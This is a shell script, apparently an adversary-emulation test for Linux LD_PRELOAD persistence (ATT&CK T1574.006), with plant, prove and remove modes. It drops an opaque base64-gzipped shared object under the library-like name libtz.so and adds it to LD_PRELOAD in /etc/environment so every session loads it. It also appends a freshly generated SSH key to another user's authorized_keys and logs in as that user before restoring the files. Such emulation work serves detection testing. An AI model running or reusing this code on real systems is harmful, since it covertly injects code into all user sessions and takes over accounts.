#!/bin/sh
# T1574.006 (loud): LD_PRELOAD for every session through /etc/environment
M=/var/tmp/luytre-foothold N=24-preload-environment
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
keep() { mkdir -p "$M/.keep/${1%/*}"; [ -e "$M/.keep/$1" ] || cp -a "$1" "$M/.keep/$1"; }
back() { [ -e "$M/.keep/$1" ] && cp -a "$M/.keep/$1" "$1" && rm -f "$M/.keep/$1"; }
so() { mkdir -p "${1%/*}"; echo H4sIAAAAAAACA71Vu08UQRif3eUAQTnkEY+YyJn4NuwdxEuIr5zi4wpMzlIL12F3YS/s47I7GK4wJhoKCgobKytLGxMLQygMCYW9haGkMcGO/+Ccufvmbma4EwvjJDu/nd/3mNf3zffq/vwDXdMQbwa6jdojhIqAuymRm0U9tE+joYauIDrUdg0Z0XATmF2vKB+V0dNk5HY62O2B3d6ojEVNxn4wf/yTOL3o79tw6zwQGhD8HBN0NFgPaz1wDmyOPrD7U5ul3wjVXAfFE8DPA/8O+F5hLsbnDfleMPDvFf0Y+A+K/wzwLxX9GvCfjPa++b4YX1X8XAT+jeIH+QRVcWAlgYVXiOeGpGJj4nIucYkdu05LxbaJFSwFLZuo6oZUKUkqUcg5248S9xDpMfckWqYTWvFKCGBVwgoR40hT7mJ2vInd7qheGBmh/fkx2qcni/SPjT0m+rVXr9c32YV/vUOPZesL9V3auOVTIp0qrX8rrW2vTm6yCUsbBXb+W30N0fT3TTZTaf1HOrVT3v/IvExQ4ulOA6Av77/tJlhlgisNwfT2Tu4FjnMkqOb8lRqJ3anFKCJe5Du5JEJ+hB3XGRD2M4HkvDqN5LzoAcxCvvBcLuvyvT4HOfe9BjgoxJUYN9nxdr6K8jHUPn/WTgEe6DK/q8vrzCj5l0H/p/F3RW0XYKMP5+auZy/dcxcqOMxOz5jXzPxU4TL8IWQmXkJigheQ6eHEQ6ZTC5Na0EQSIzN2fcwG8Fel6WMSd5X2ceRggpHpetZijAMXmSy2LRzHuNawx0HFRuZSRJpWdhQENN3+0b4HIRZ0JT443kTy/arxdBJ86Er8cDwQ4kXrcM8TINOVeOS4pqxXU8ZnYS26Ek8cM13Wz/mrYH9Xic+DDvbHO9jnhRrXqCeGjNku9YZjQbHn7z7H10fs/wZwMzD+bMh4ros9xzmlvh2q40rrV8aP6DckvAet+m501u9X8Ans3VDykNd9Xt8NxY6f34Ly9vP3KJvqfP7q/Mtgn1f0imB/5ojz07rUl2dgT464v9/Mwxb4mAkAAA== | base64 -d | gzip -d >"$1"; chmod 644 "$1"; }
loaded() { [ -s "$M/so" ] && mv "$M/so" "$M/$N"; }
visit() { # a login of an account by a key of the prover's own, as its owner would log in
  h=$(getent passwd "$1" | cut -d: -f6); mkdir -p "$h/.ssh"; k=$h/.ssh/authorized_keys; cp -a "$k" "$M/.k" 2>/dev/null
  ssh-keygen -q -t ed25519 -N "" -f "$M/.visit"; cat "$M/.visit.pub" >>"$k"; chown -R "$1" "$h/.ssh"; chmod 700 "$h/.ssh"; chmod 600 "$k"
  u=$1; shift; ssh -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -i "$M/.visit" "$u@127.0.0.1" "$@" </dev/null
  if [ -e "$M/.k" ]; then mv "$M/.k" "$k"; else rm -f "$k"; fi; rm -f "$M/.visit" "$M/.visit.pub"; }
plant() {
  keep /etc/environment
  so /usr/local/lib/libtz.so
  echo 'LD_PRELOAD=/usr/local/lib/libtz.so' >>/etc/environment
}
prove() {
  rm -f "$M/$N" "$M/so"
  visit quantri true
  loaded; seen
}
remove() {
  back /etc/environment; rm -f /usr/local/lib/libtz.so
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
